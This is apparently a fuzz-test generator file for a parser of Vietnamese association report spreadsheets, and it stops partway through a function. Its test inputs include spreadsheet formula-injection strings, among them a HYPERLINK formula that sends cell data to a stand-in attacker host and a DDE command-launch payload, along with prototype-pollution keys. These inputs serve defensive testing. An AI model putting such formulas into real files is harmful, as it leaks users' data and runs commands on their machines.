// Generators for the fuzz suite. Everything a generator produces is plain data (a "spec") that
// does not depend on the rules; `build*` turns a spec into a WorkbookModel against given rules
// (labels and unit names are picked from the rules by index). Keeping specs rule-independent
// lets fast-check shrink a failing case to a small, readable spec.
import fc from 'fast-check';
import * as iconv from 'iconv-lite';
import { Cell, CellRange, CellValue, Sheet, WorkbookModel, newSheet, setCell } from '../../src/core/model';
import type { Rules } from '../../src/core';
import { ModelRow, rulesModel } from '../helpers/model';

// ---------------------------------------------------------------------------------------------
// Text

/** Windows-1252 view of TCVN3 bytes, as Excel shows legacy text in an 8-bit font. */
export function encodeTCVN3(s: string): string {
  let out = '';
  for (const b of iconv.encode(s.normalize('NFC'), 'tcvn')) {
    const ch = iconv.decode(Buffer.from([b]), 'windows1252');
    out += ch === '\uFFFD' ? String.fromCharCode(b) : ch;
  }
  return out;
}

const LONG_TEXT = 'Tổng số hội viên '.repeat(600).slice(0, 10000);
const LONG_ASCII = 'x'.repeat(10000);

/** Words whose names are also Object.prototype members, or that pollution tests look for. */
export const PROTO_WORDS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', 'polluted', '__defineGetter__', 'isPrototypeOf'];

/** Text that a spreadsheet would take for a formula if it were written as a formula. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1+1)',
  "='Tổng hợp'!A1",
  '=IFERROR(1/0,"")',
];

/** Values as units type them into report cells (the task's list, plus neighbours). */
const TYPED_STRINGS = [
  '1.250',
  '12.011',
  '2,5',
  '99,75%',
  '99,6%',
  '0,996',
  '1.250,5',
  '1,250.5',
  '-',
  '–',
  'x',
  'X',
  'n/a',
  '',
  '   ',
  '\u00a0',
  'khoảng 40',
  'đang tổng hợp',
  'chưa có số liệu',
  '40 (ước)',
  '1e300',
  'Infinity',
  'NaN',
  '-5',
  '+7',
  '00012',
  '1..2',
  ',5',
  '5,',
  '%',
  '#DIV/0!',
  '#N/A',
  'TRUE',
  'Sè m« h×nh',
  'Tæng sè héi viªn',
  'Tổng số hội viên'.normalize('NFD'),
  'Kết nạp mới'.normalize('NFD'),
  '\u200bTổng\u200b số',
  'a\tb\nc',
  LONG_TEXT,
  LONG_ASCII,
  ...PROTO_WORDS,
  ...INJECTIONS,
];

const ERRORS = ['#DIV/0!', '#N/A', '#VALUE!', '#REF!', '#NAME?', '#NUM!', '#NULL!', '#SPILL!', '', '__proto__'];

const FORMULAS = ['SUM(E11:E15)', 'E26/D26*100', 'IFERROR(F7/E7,"")', 'HYPERLINK("http://x","y")', 'A1', "'Biểu 01'!E11", '1/0', '__proto__'];
const NUM_FMTS = ['0.00%', '0%', '#,##0', '#,##0.00', '@', 'General', 'dd/mm/yyyy', '"%"0', '0.0\\%', '0.00" %"', ''];
const FONTS = ['.VnTime', '.VnTimeH', '.VnArial', 'VNI-Times', 'Times New Roman', 'Calibri', ''];

const SPECIAL_NUMBERS = [
  1e300,
  -1e300,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.EPSILON,
  Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  NaN,
  Infinity,
  -Infinity,
  -0,
  0.1 + 0.2,
  99.75,
  0.9975,
  1e-300,
  123456789012345680000,
];

/** A value as a report cell may hold it, invalid dates included (a huge number in a date cell). */
export const valueArb: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 1, arbitrary: fc.constant<CellValue>(new Date(NaN)) },
  { weight: 4, arbitrary: fc.integer({ min: -50, max: 20000 }) },
  { weight: 2, arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true }) },
  { weight: 1, arbitrary: fc.double() }, // NaN, ±Infinity, -0, subnormals, 1e308
  { weight: 2, arbitrary: fc.constantFrom(...SPECIAL_NUMBERS) },
  { weight: 4, arbitrary: fc.constantFrom(...TYPED_STRINGS) },
  { weight: 1, arbitrary: fc.constantFrom(...ERRORS).map((error) => ({ error })) },
  { weight: 1, arbitrary: fc.date({ min: new Date(-8.64e15 + 1), max: new Date(8.64e15 - 1), noInvalidDate: true }) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constant(null) },
);

/** A whole cell: a value, perhaps with a formula it is the cached result of, a format and a font. */
export const cellArb: fc.Arbitrary<Cell> = fc
  .record(
    {
      value: valueArb,
      formula: fc.constantFrom(...FORMULAS),
      numFmt: fc.constantFrom(...NUM_FMTS),
      font: fc.constantFrom(...FONTS),
    },
    { requiredKeys: ['value'] },
  )
  .map((c) => ({ ...c }));

/** Figures as a unit usually types them, with now and then anything at all. */
export const figureArb: fc.Arbitrary<Cell | null> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<Cell | null>({ value: Number.MAX_VALUE }) },
  { weight: 6, arbitrary: fc.integer({ min: 0, max: 5000 }).map((value): Cell => ({ value })) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 100 }).map((value): Cell => ({ value: value / 100, numFmt: '0.00%' })) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 5000 }).map((value): Cell => ({ value, formula: 'SUM(E11:E15)' })) },
  { weight: 3, arbitrary: cellArb },
  { weight: 1, arbitrary: fc.constant(null) },
);

// ---------------------------------------------------------------------------------------------
// Pieces of a report sheet

export const HEADER_WORDINGS = {
  stt: ['STT', 'TT', 'Số TT'],
  label: ['Nội dung', 'Chỉ tiêu', 'Nội dung chỉ tiêu', 'NỘI DUNG', 'Các chỉ tiêu'],
  uom: ['Đơn vị tính', 'ĐVT', 'Đơn vị\ntính'],
  plan: ['Kế hoạch', 'KH năm 2023', 'Kế hoạch năm 2023', 'Chỉ tiêu giao'],
  value: ['Thực hiện', 'Kết quả thực hiện', 'Kết quả thực hiện năm 2023', 'Ước thực hiện', 'Số lượng'],
  rate: ['Tỷ lệ %', 'Tỷ lệ (%) so với KH', '%', 'So sánh'],
  lastYear: ['Cùng kỳ', 'Cùng kỳ năm trước'],
  note: ['Ghi chú', 'GHI CHÚ'],
} as const;
export type Role = keyof typeof HEADER_WORDINGS;
const ROLES = Object.keys(HEADER_WORDINGS) as Role[];
const CANONICAL: Role[] = ['stt', 'label', 'uom', 'plan', 'value', 'rate', 'lastYear', 'note'];

const PREFIXES = ['', '', '', '-', '+', 'a)', 'b)', '1.1', '2.', '1.', '•', 'Trong đó:', '- Trong đó:', '*'];
const UOMS = ['Người', 'Hộ', 'Mô hình', 'Cuộc', 'Khu', 'Nhà', 'Cơ sở', '%', 'Tỷ lệ', '', 'lần', '__proto__'];
const UNKNOWN_LABELS = [
  'Số hộ nghèo (chỉ tiêu năm 2022, không dùng)',
  'Số tổ hợp tác, hợp tác xã do Hội hướng dẫn thành lập',
  'Số người tham gia BHYT',
  'Trong đó:',
  'Tổng số',
  'Tổng cộng',
  'Cộng',
  'NGƯỜI LẬP BIỂU',
  'T/M ĐẢNG ỦY',
  'I. HỘI NÔNG DÂN',
  'II. CÁC NỘI DUNG KHÁC',
  '(1)',
  ...PROTO_WORDS,
  ...INJECTIONS,
  LONG_TEXT,
];
const JUNK_SECTIONS = ['CÁC NỘI DUNG KHÁC', 'PHẦN II', 'A. KẾT QUẢ', 'HỘI NGƯỜI CAO TUỔI', '__PROTO__', 'CONSTRUCTOR'];
const ROMANS = ['I', 'II', 'III', 'IV', 'V', 'VI', 'VII', 'VIII', 'IX', 'X', 'A', 'B', 'Phần I'];

const TITLE_TEXTS = [
  'ĐẢNG BỘ THỊ XÃ HÒA BÌNH',
  'ĐẢNG CỘNG SẢN VIỆT NAM',
  'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
  'Độc lập - Tự do - Hạnh phúc',
  'BIỂU TỔNG HỢP KẾT QUẢ THỰC HIỆN CHỈ TIÊU CÔNG TÁC DÂN VẬN NĂM 2023',
  'BÁO CÁO KẾT QUẢ 6 THÁNG ĐẦU NĂM 2023',
  'Kết quả 9 tháng năm 2023',
  'QUÝ I NĂM 2024',
  '6 tháng cuối năm 2022',
  '(Kèm theo Báo cáo số 12-BC/ĐU)',
  'BẢNG TỔNG HỢP HỘI VIÊN HỘI NÔNG DÂN NĂM 2023',
  'BẢNG TỔNG HỢP ĐOÀN VIÊN CÔNG ĐOÀN',
  'NĂM 13 THÁNG',
  '99 tháng năm 99999',
  'ĐẢNG ỦY PHƯỜNG KHÔNG CÓ TRONG DANH SÁCH',
  'UBND XÃ ĐÂU ĐÓ',
  ...PROTO_WORDS,
  ...INJECTIONS,
];
export const PART_YEAR_TITLES = ['BÁO CÁO KẾT QUẢ 6 THÁNG ĐẦU NĂM 2023', 'Kết quả 9 tháng năm 2023', 'BÁO CÁO KẾT QUẢ CÔNG TÁC DÂN VẬN QUÝ III NĂM 2023', 'Sơ kết 6 tháng đầu năm 2023'];

const DATE_LINES = [
  'ngày 12 tháng 12 năm 2023',
  'Hòa Lạc, ngày 14 tháng 6 năm 2022',
  'ngày 01 tháng 01 năm 2024',
  '14/6/2023',
  '31/02/2023',
  'ngày    tháng 6 năm 2022',
  'ngày 12 tháng 12',
  'ngày 99 tháng 99 năm 9999',
  'ngày 0 tháng 0 năm 0000',
];
const SIGNATURES = ['NGƯỜI LẬP BIỂU', 'T/M ĐẢNG ỦY', 'Nơi nhận:', 'XÁC NHẬN CỦA THỦ TRƯỞNG', 'BÍ THƯ'];
const UNIT_WORDS = ['Đơn vị', 'Tên đơn vị', 'Cơ sở', 'Địa phương', 'Chi hội', 'Phường, xã', 'ĐƠN VỊ'];
const TOTAL_WORDS = ['Tổng cộng', 'TỔNG CỘNG', 'Cộng', 'Tổng số', 'Toàn thị xã', 'Tổng'];
const SHEET_NAMES = ['Biểu 01', 'Sheet1', 'Sheet2', 'BC', 'Bao cao', 'PhuongHoaLac', 'XaYenBinh', 'Tổng hợp', "It's", 'Chỉ tiêu', 'Đơn vị', '', ' ', 'x'.repeat(31), ...PROTO_WORDS, ...INJECTIONS];

/** A label: one of the rules' indicator names or aliases (by index), reworded, or none of them. */
export type LabelSpec =
  | { kind: 'name'; idx: number; prefix: string; form: 'asis' | 'upper' | 'lower' | 'nfd' | 'tcvn' | 'tcvn-no-font' | 'drop-word' | 'add-word' | 'spaces' | 'zero-width' }
  | { kind: 'unknown'; text: string; prefix: string };

export const labelArb: fc.Arbitrary<LabelSpec> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.record({
      kind: fc.constant('name' as const),
      idx: fc.nat(200),
      prefix: fc.constantFrom(...PREFIXES),
      form: fc.constantFrom('asis', 'asis', 'asis', 'upper', 'lower', 'nfd', 'tcvn', 'tcvn-no-font', 'drop-word', 'add-word', 'spaces', 'zero-width' as const),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('unknown' as const),
      text: fc.oneof(fc.constantFrom(...UNKNOWN_LABELS), fc.string({ maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 20 })),
      prefix: fc.constantFrom(...PREFIXES),
    }),
  },
);

/** The name of a unit: a roster unit (by index) in some written form, or something else. */
export type UnitNameSpec =
  | { kind: 'roster'; idx: number; form: 'name' | 'alias' | 'core' | 'upper' | 'party' | 'ubnd' | 'short' | 'nfd' | 'camel' }
  | { kind: 'text'; text: string };

export const unitNameArb: fc.Arbitrary<UnitNameSpec> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constant('roster' as const),
      idx: fc.nat(100),
      form: fc.constantFrom('name', 'alias', 'core', 'upper', 'party', 'ubnd', 'short', 'nfd', 'camel' as const),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('text' as const),
      text: fc.oneof(fc.constantFrom('Phường Không Có', 'Xã Mới Sáp Nhập', 'Thị trấn Hòa Bình', 'Thị xã Hòa Bình', 'P.', 'Xã', '', ...PROTO_WORDS, ...INJECTIONS), fc.string({ maxLength: 20 })),
    }),
  },
);

export type TitleSpec = { kind: 'text'; text: string } | { kind: 'unit'; unit: UnitNameSpec; right: string | null };

const titleArb: fc.Arbitrary<TitleSpec> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('text' as const), text: fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...TITLE_TEXTS) }, { weight: 1, arbitrary: fc.string({ maxLength: 30 }) }) }) },
  // A part of the year, so targets are prorated and "behind pace" is reached (about one title in four).
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('text' as const), text: fc.constantFrom(...PART_YEAR_TITLES) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('unit' as const), unit: unitNameArb, right: fc.option(fc.constantFrom(...DATE_LINES, 'ĐẢNG CỘNG SẢN VIỆT NAM'), { nil: null }) }) },
);

export interface MergeSpec {
  top: number;
  left: number;
  height: number;
  width: number;
}

const mergeArb: fc.Arbitrary<MergeSpec> = fc.oneof(
  { weight: 6, arbitrary: fc.record({ top: fc.integer({ min: 1, max: 40 }), left: fc.integer({ min: 1, max: 10 }), height: fc.nat(3), width: fc.nat(5) }) },
  // Whole rows, whole columns, the whole sheet: the grid must not index a billion cells.
  { weight: 1, arbitrary: fc.constantFrom<MergeSpec>({ top: 1, left: 1, height: 1048575, width: 16383 }, { top: 3, left: 1, height: 0, width: 16383 }, { top: 1, left: 2, height: 1048575, width: 0 }, { top: 5, left: 5, height: -2, width: -2 }) },
);

export type RowSpec =
  | { kind: 'section'; numbering: 'stt' | 'label' | 'none'; roman: number; section: number | string; upper: boolean }
  | { kind: 'data'; stt: string | number | null; label: LabelSpec; uom: string | null; value: Cell | null; plan: Cell | null; rate: Cell | null; lastYear: Cell | null; note: string | null }
  | { kind: 'blank' }
  | { kind: 'junk'; cells: Array<Cell | null> };

const rowArb: fc.Arbitrary<RowSpec> = fc.oneof(
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('section' as const),
      numbering: fc.constantFrom('stt', 'label', 'none' as const),
      roman: fc.nat(ROMANS.length - 1),
      section: fc.oneof({ weight: 4, arbitrary: fc.nat(50) }, { weight: 1, arbitrary: fc.constantFrom(...JUNK_SECTIONS) }),
      upper: fc.boolean(),
    }),
  },
  {
    weight: 10,
    arbitrary: fc.record({
      kind: fc.constant('data' as const),
      stt: fc.option(fc.oneof(fc.nat(30), fc.constantFrom('1', '1.1', '1.2', 'a', '-', '+', '2.3.4', 'I', 'x')), { nil: null }),
      label: labelArb,
      uom: fc.option(fc.constantFrom(...UOMS), { nil: null }),
      value: figureArb,
      plan: fc.option(figureArb, { nil: null, freq: 2 }).map((c) => c ?? null),
      rate: fc.option(figureArb, { nil: null, freq: 2 }).map((c) => c ?? null),
      lastYear: fc.option(figureArb, { nil: null, freq: 2 }).map((c) => c ?? null),
      note: fc.option(fc.constantFrom('Vượt', 'Không đạt', 'Ước', ...INJECTIONS, ...PROTO_WORDS), { nil: null, freq: 4 }),
    }),
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'blank' as const }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('junk' as const), cells: fc.array(fc.option(cellArb, { nil: null }), { maxLength: 9 }) }) },
);

/** One unit per sheet, one indicator per row. */
export interface IndicatorSheetSpec {
  layout: 'indicator-per-row';
  name: string | UnitNameSpec;
  startCol: number;
  titles: TitleSpec[];
  mergeTitles: boolean;
  dateLine: string | null;
  roles: Role[];
  canonicalOrder: boolean;
  ensureLabelAndValue: boolean;
  wordings: number[];
  twoRowHeader: boolean;
  verticalMerges: boolean;
  columnNumbers: 'none' | 'parens' | 'numbers';
  rows: RowSpec[];
  signature: number | null;
  font: string | null;
  extraMerges: MergeSpec[];
  hiddenRows: number[];
}

export const indicatorSheetArb: fc.Arbitrary<IndicatorSheetSpec> = fc.record({
  layout: fc.constant('indicator-per-row' as const),
  name: fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...SHEET_NAMES) }, { weight: 1, arbitrary: unitNameArb }),
  startCol: fc.integer({ min: 1, max: 3 }),
  titles: fc.array(titleArb, { maxLength: 6 }),
  mergeTitles: fc.boolean(),
  dateLine: fc.option(fc.constantFrom(...DATE_LINES), { nil: null }),
  roles: fc.uniqueArray(fc.constantFrom(...ROLES), { maxLength: 8 }),
  canonicalOrder: fc.boolean(),
  ensureLabelAndValue: fc.oneof({ weight: 9, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
  wordings: fc.array(fc.nat(10), { minLength: 8, maxLength: 8 }),
  twoRowHeader: fc.boolean(),
  verticalMerges: fc.boolean(),
  columnNumbers: fc.constantFrom('none', 'parens', 'numbers' as const),
  rows: fc.array(rowArb, { maxLength: 30 }),
  signature: fc.option(fc.nat(SIGNATURES.length - 1), { nil: null }),
  font: fc.option(fc.constantFrom('.VnTime', 'VNI-Times', 'Times New Roman'), { nil: null, freq: 6 }),
  extraMerges: fc.array(mergeArb, { maxLength: 3 }),
  hiddenRows: fc.array(fc.integer({ min: 1, max: 40 }), { maxLength: 3 }),
});

/** An association's table: one unit per row, one indicator per column, perhaps a total row. */
export interface UnitSheetSpec {
  layout: 'unit-per-row';
  name: string | UnitNameSpec;
  startCol: number;
  titles: TitleSpec[];
  dateLine: string | null;
  stt: boolean;
  note: boolean;
  unitWord: number;
  groupRow: boolean;
  columns: LabelSpec[];
  rows: Array<{ unit: UnitNameSpec; values: Array<Cell | null> }>;
  total: null | { word: number; mode: 'sum' | 'off-by' | 'any'; delta: number; cell: Cell | null };
  signature: boolean;
  extraMerges: MergeSpec[];
}

export const unitSheetArb: fc.Arbitrary<UnitSheetSpec> = fc.record({
  layout: fc.constant('unit-per-row' as const),
  name: fc.oneof(fc.constantFrom(...SHEET_NAMES), unitNameArb),
  startCol: fc.integer({ min: 1, max: 3 }),
  titles: fc.array(titleArb, { maxLength: 4 }),
  dateLine: fc.option(fc.constantFrom(...DATE_LINES), { nil: null }),
  stt: fc.boolean(),
  note: fc.boolean(),
  unitWord: fc.nat(UNIT_WORDS.length - 1),
  groupRow: fc.boolean(),
  columns: fc.array(labelArb, { minLength: 1, maxLength: 8 }),
  rows: fc.array(fc.record({ unit: unitNameArb, values: fc.array(figureArb, { maxLength: 8 }) }), { maxLength: 12 }),
  total: fc.option(
    fc.record({ word: fc.nat(TOTAL_WORDS.length - 1), mode: fc.constantFrom('sum', 'off-by', 'any' as const), delta: fc.integer({ min: -3, max: 3 }), cell: figureArb }),
    { nil: null },
  ),
  signature: fc.boolean(),
  extraMerges: fc.array(mergeArb, { maxLength: 2 }),
});

/** Anything at all on a sheet: an appendix, a chart's data, a list of names. */
export interface JunkSheetSpec {
  layout: 'junk';
  name: string | UnitNameSpec;
  cells: Array<{ row: number; col: number; cell: Cell }>;
  merges: MergeSpec[];
  hiddenRows: number[];
  hiddenCols: number[];
}

export const junkSheetArb: fc.Arbitrary<JunkSheetSpec> = fc.record({
  layout: fc.constant('junk' as const),
  name: fc.oneof(fc.constantFrom(...SHEET_NAMES), fc.string({ maxLength: 31 })),
  cells: fc.array(
    fc.record({
      row: fc.oneof({ weight: 9, arbitrary: fc.integer({ min: 1, max: 40 }) }, { weight: 1, arbitrary: fc.integer({ min: 1, max: 3000 }) }),
      col: fc.oneof({ weight: 9, arbitrary: fc.integer({ min: 1, max: 12 }) }, { weight: 1, arbitrary: fc.integer({ min: 1, max: 200 }) }),
      // Header words scattered about, so half-recognised headers turn up.
      cell: fc.oneof(cellArb, fc.constantFrom(...Object.values(HEADER_WORDINGS).flat(), ...UNIT_WORDS, ...TOTAL_WORDS, ...SIGNATURES).map((value): Cell => ({ value }))),
    }),
    { maxLength: 60 },
  ),
  merges: fc.array(mergeArb, { maxLength: 4 }),
  hiddenRows: fc.array(fc.integer({ min: 1, max: 40 }), { maxLength: 3 }),
  hiddenCols: fc.array(fc.integer({ min: 1, max: 12 }), { maxLength: 2 }),
});

export type SheetSpec = IndicatorSheetSpec | UnitSheetSpec | JunkSheetSpec;

export const sheetArb: fc.Arbitrary<SheetSpec> = fc.oneof(
  { weight: 6, arbitrary: indicatorSheetArb },
  { weight: 2, arbitrary: unitSheetArb },
  { weight: 1, arbitrary: junkSheetArb },
);

export interface WorkbookSpec {
  file: UnitNameSpec | string;
  sheets: SheetSpec[];
}

export const workbookArb: fc.Arbitrary<WorkbookSpec> = fc.record({
  file: fc.oneof(unitNameArb, fc.constantFrom('bao cao', 'BC-DanVan-2023', 'Biểu 01', '~$lock', '', ...PROTO_WORDS, ...INJECTIONS)),
  sheets: fc.oneof({ weight: 6, arbitrary: fc.array(sheetArb, { minLength: 1, maxLength: 1 }) }, { weight: 3, arbitrary: fc.array(sheetArb, { minLength: 2, maxLength: 3 }) }, { weight: 1, arbitrary: fc.constant<SheetSpec[]>([]) }),
});

/** The reports of one check: one to five workbooks, and perhaps files that could not be opened. */
export interface ReportsSpec {
  workbooks: WorkbookSpec[];
  fileErrors: Array<{ file: string; message: string }>;
}

export const reportsArb: fc.Arbitrary<ReportsSpec> = fc.record({
  workbooks: fc.array(workbookArb, { minLength: 1, maxLength: 5 }),
  fileErrors: fc.array(fc.record({ file: fc.constantFrom('hong.xlsx', 'cu.xls', '__proto__.xlsx', ''), message: fc.constantFrom('Tệp bị hỏng.', 'Tệp có mật khẩu.') }), { maxLength: 1 }),
});

// ---------------------------------------------------------------------------------------------
// Building models from specs

const pick = <T>(list: readonly T[], idx: number, fallback: T): T => (list.length ? list[idx % list.length] : fallback);

function reword(name: string, form: Extract<LabelSpec, { kind: 'name' }>['form']): { text: string; font?: string } {
  switch (form) {
    case 'asis':
      return { text: name };
    case 'upper':
      return { text: name.toLocaleUpperCase('vi') };
    case 'lower':
      return { text: name.toLocaleLowerCase('vi') };
    case 'nfd':
      return { text: name.normalize('NFD') };
    case 'tcvn':
      return { text: encodeTCVN3(name), font: '.VnTime' };
    case 'tcvn-no-font':
      return { text: encodeTCVN3(name) };
    case 'drop-word':
      return { text: name.split(' ').slice(0, -1).join(' ') || name };
    case 'add-word':
      return { text: `${name} trên địa bàn` };
    case 'spaces':
      return { text: `  ${name.replace(/ /g, '  ')}\u00a0` };
    case 'zero-width':
      return { text: name.replace(/ /, '\u200b ') };
  }
}

export function labelText(spec: LabelSpec, names: readonly string[]): { text: string; font?: string } {
  if (spec.kind === 'unknown') return { text: spec.prefix ? `${spec.prefix} ${spec.text}` : spec.text };
  const r = reword(pick(names, spec.idx, 'Tổng số hội viên'), spec.form);
  return spec.prefix ? { ...r, text: `${spec.prefix} ${r.text}` } : r;
}

export function unitName(spec: UnitNameSpec, rules: Rules): string {
  if (spec.kind === 'text' || rules.roster.length === 0) return spec.kind === 'text' ? spec.text : 'Phường Hòa Lạc';
  const u = rules.roster[spec.idx % rules.roster.length];
  const core = u.name.replace(/^(phường|xã|thị trấn|p\.|x\.)\s+/i, '');
  switch (spec.form) {
    case 'name':
      return u.name;
    case 'alias':
      return u.aliases[0] ?? u.name;
    case 'core':
      return core;
    case 'upper':
      return u.name.toLocaleUpperCase('vi');
    case 'party':
      return `ĐẢNG ỦY ${u.name.toLocaleUpperCase('vi')}`;
    case 'ubnd':
      return `UBND ${u.name}`;
    case 'short':
      return `P. ${core}`;
    case 'nfd':
      return u.name.normalize('NFD');
    case 'camel':
      return core
        .normalize('NFD')
        .replace(/[\u0300-\u036f]/g, '')
        .replace(/đ/g, 'd')
        .replace(/Đ/g, 'D')
        .split(/\s+/)
        .map((w) => (w ? w[0].toUpperCase() + w.slice(1) : w))
        .join('');
  }
}

function nameOf(n: string | UnitNameSpec, rules: Rules): string {
  return typeof n === 'string' ? n : unitName(n, rules);
}

function toRange(m: MergeSpec): CellRange {
  return { top: m.top, left: m.left, bottom: m.top + m.height, right: m.left + m.width };
}

/** Names and aliases of the rules' indicators: what labels are drawn from. */
export function indicatorNames(rules: Rules): string[] {
  return rules.indicators.flatMap((i) => [i.name, ...i.aliases]);
}

function put(sheet: Sheet, row: number, col: number, cell: Cell | null | undefined) {
  if (cell) setCell(sheet, row, col, { ...cell });
}

function textCell(text: string, font?: string | null): Cell {
  return font ? { value: text, font } : { value: text };
}

function titleLine(t: TitleSpec, rules: Rules): [string, string | null] {
  return t.kind === 'text' ? [t.text, null] : [unitName(t.unit, rules), t.right];
}

export function buildIndicatorSheet(spec: IndicatorSheetSpec, rules: Rules): Sheet {
  const sheet = newSheet(nameOf(spec.name, rules));
  const names = indicatorNames(rules);
  let roles = [...spec.roles];
  if (spec.ensureLabelAndValue) for (const r of ['label', 'value'] as const) if (!roles.includes(r)) roles.push(r);
  if (spec.canonicalOrder) roles = CANONICAL.filter((r) => roles.includes(r));
  const c0 = spec.startCol;
  const colOf = new Map(roles.map((r, i) => [r, c0 + i]));
  const last = c0 + Math.max(roles.length, 1) - 1;
  const font = spec.font;
  let row = 1;
  for (const t of spec.titles) {
    const [left, right] = titleLine(t, rules);
    put(sheet, row, c0, textCell(left, font));
    if (right !== null) put(sheet, row, Math.max(last, c0 + 3), textCell(right, font));
    if (spec.mergeTitles && right === null && last > c0) sheet.merges.push({ top: row, left: c0, bottom: row, right: last });
    row++;
  }
  if (spec.dateLine) put(sheet, row++, last, textCell(spec.dateLine, font));
  if (spec.titles.length || spec.dateLine) row++;

  // The header, on one or two rows.
  const h1 = row;
  const h2 = spec.twoRowHeader ? row + 1 : row;
  roles.forEach((role, i) => {
    const words = HEADER_WORDINGS[role];
    const wording = words[spec.wordings[ROLES.indexOf(role)] % words.length];
    const col = c0 + i;
    if (spec.twoRowHeader && (role === 'value' || role === 'rate')) {
      // "Kết quả thực hiện" over "Thực hiện | Tỷ lệ", merged across both when they stand together.
      if (role === 'rate' && roles[i - 1] === 'value') sheet.merges.push({ top: h1, left: col - 1, bottom: h1, right: col });
      else put(sheet, h1, col, textCell('Kết quả thực hiện năm 2023', font));
      put(sheet, h2, col, textCell(wording, font));
    } else {
      put(sheet, h1, col, textCell(wording, font));
      if (spec.twoRowHeader && spec.verticalMerges) sheet.merges.push({ top: h1, left: col, bottom: h2, right: col });
    }
  });
  row = h2 + 1;
  if (spec.columnNumbers !== 'none') {
    roles.forEach((_, i) => put(sheet, row, c0 + i, { value: spec.columnNumbers === 'parens' ? `(${i + 1})` : i + 1 }));
    row++;
  }

  for (const r of spec.rows) {
    if (r.kind === 'blank') {
      row++;
      continue;
    }
    if (r.kind === 'junk') {
      r.cells.forEach((c, i) => put(sheet, row, c0 + i, c));
      row++;
      continue;
    }
    const labelCol = colOf.get('label') ?? c0;
    if (r.kind === 'section') {
      const name = typeof r.section === 'number' ? pick(rules.sections, r.section, 'HỘI NÔNG DÂN') : r.section;
      const text = r.upper ? name.toLocaleUpperCase('vi') : name;
      const roman = ROMANS[r.roman];
      const sttCol = colOf.get('stt');
      if (r.numbering === 'stt' && sttCol !== undefined) {
        put(sheet, row, sttCol, textCell(roman, font));
        put(sheet, row, labelCol, textCell(text, font));
      } else if (r.numbering === 'none') put(sheet, row, labelCol, textCell(text, font));
      else put(sheet, row, labelCol, textCell(`${roman}. ${text}`, font));
      row++;
      continue;
    }
    const { text, font: labelFont } = labelText(r.label, names);
    const at = (role: Role) => colOf.get(role);
    if (at('stt') !== undefined && r.stt !== null) put(sheet, row, at('stt')!, { value: r.stt });
    put(sheet, row, labelCol, textCell(text, labelFont ?? font));
    if (at('uom') !== undefined && r.uom !== null) put(sheet, row, at('uom')!, textCell(r.uom, font));
    for (const [role, cell] of [['value', r.value], ['plan', r.plan], ['rate', r.rate], ['lastYear', r.lastYear]] as const) {
      if (at(role) !== undefined) put(sheet, row, at(role)!, cell);
    }
    if (at('note') !== undefined && r.note !== null) put(sheet, row, at('note')!, textCell(r.note, font));
    row++;
  }
  if (spec.signature !== null) {
    row++;
    put(sheet, row, c0, textCell(SIGNATURES[spec.signature], font));
    put(sheet, row, last, textCell('T/M ĐẢNG ỦY', font));
  }
  sheet.merges.push(...spec.extraMerges.map(toRange));
  sheet.hiddenRows.push(...spec.hiddenRows);
  return sheet;
}

export function buildUnitSheet(spec: UnitSheetSpec, rules: Rules): Sheet {
  const sheet = newSheet(nameOf(spec.name, rules));
  const names = indicatorNames(rules);
  const byName = new Map<string, string>();
  for (const ind of rules.indicators) for (const n of [ind.name, ...ind.aliases]) if (!byName.has(n)) byName.set(n, ind.section);
  let col = spec.startCol;
  const sttCol = spec.stt ? col++ : null;
  const unitCol = col++;
  const firstInd = col;
  const noteCol = spec.note ? firstInd + spec.columns.length : null;
  const last = noteCol ?? firstInd + spec.columns.length - 1;
  let row = 1;
  for (const t of spec.titles) {
    const [left, right] = titleLine(t, rules);
    put(sheet, row, spec.startCol, { value: left });
    if (right !== null) put(sheet, row, last, { value: right });
    row++;
  }
  if (spec.dateLine) put(sheet, row++, last, { value: spec.dateLine });
  if (spec.titles.length || spec.dateLine) row++;

  const top = row;
  const bottom = spec.groupRow ? row + 1 : row;
  const fixed: Array<[number | null, string]> = [
    [sttCol, 'STT'],
    [unitCol, UNIT_WORDS[spec.unitWord]],
    [noteCol, 'Ghi chú'],
  ];
  for (const [c, t] of fixed) {
    if (c === null) continue;
    put(sheet, top, c, { value: t });
    if (bottom > top) sheet.merges.push({ top, left: c, bottom, right: c });
  }
  const sections: string[] = [];
  spec.columns.forEach((l, i) => {
    const { text, font } = labelText(l, names);
    put(sheet, bottom, firstInd + i, textCell(text, font));
    const plain = l.kind === 'name' ? pick(names, l.idx, '') : '';
    sections.push(byName.get(plain) ?? 'Các nội dung khác');
  });
  if (spec.groupRow) {
    // The section over each run of columns of one section, merged across the run.
    let start = 0;
    for (let i = 1; i <= sections.length; i++) {
